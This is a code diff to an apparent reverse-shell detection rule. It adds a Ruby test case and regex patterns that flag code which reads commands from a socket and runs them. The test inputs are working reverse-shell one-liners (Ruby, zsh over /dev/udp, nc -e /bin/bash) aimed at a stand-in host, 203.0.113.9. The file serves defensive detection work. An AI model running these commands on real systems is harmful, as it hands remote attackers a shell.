@@ -98,6 +98,15 @@ export const execReverseShell: EventRule = {
       { name: 'zsh and udp', calls: [{ shell: 'zsh -i >& /dev/udp/203.0.113.9/53 0>&1' }] },
       { name: 'busybox', calls: [{ shell: 'nc 203.0.113.9 4444 -e /bin/bash' }] },
       {
+        name: 'ruby, line by line',
+        calls: [
+          {
+            shell:
+              'ruby -rsocket -e \'c=TCPSocket.new("203.0.113.9",4444);while(l=c.gets);IO.popen(l,"r"){|i|c.print i.read}end\'',
+          },
+        ],
+      },
+      {
         name: 'ruby',
         calls: [
           {
@@ -181,12 +190,16 @@ const CODE_SHELL =
 const CODE_JOIN =
   /dup2|<&\s?[\d%$]|STDIN|stdin|subprocess|\.pipe\(|fileno|pty\.spawn|GetStream|exec\(|spawn\(|proc_open|shell_exec/i;
 
+/** What comes from the other side is run: `while (line = socket.gets) IO.popen(line)`. */
+const CODE_HEARS = /\.gets\b|\brecv\(|\.recv\b|fgets\(|\.on\(\s?['"]data['"]/;
+const CODE_RUNS =
+  /\b(?:popen|system|shell_exec|check_output|getoutput|exec|execSync)\s?\(\s?[\w.$]{1,40}\s?[,)]|\bpopen\s{1,4}\w/;
+
 function handsOverShell(command: ShellCommand, shell: ShellAnalysis): boolean {
   if (command.code !== undefined && CODE_SOCKET.test(command.code)) {
     const code = command.code.slice(0, 20_000);
     if (
-      CODE_SHELL.test(code) &&
-      CODE_JOIN.test(code) &&
+      ((CODE_SHELL.test(code) && CODE_JOIN.test(code)) || (CODE_HEARS.test(code) && CODE_RUNS.test(code))) &&
       /connect|TCPClient|TCPSocket|fsockopen|bind|PeerAddr/i.test(code)
     )
       return true;
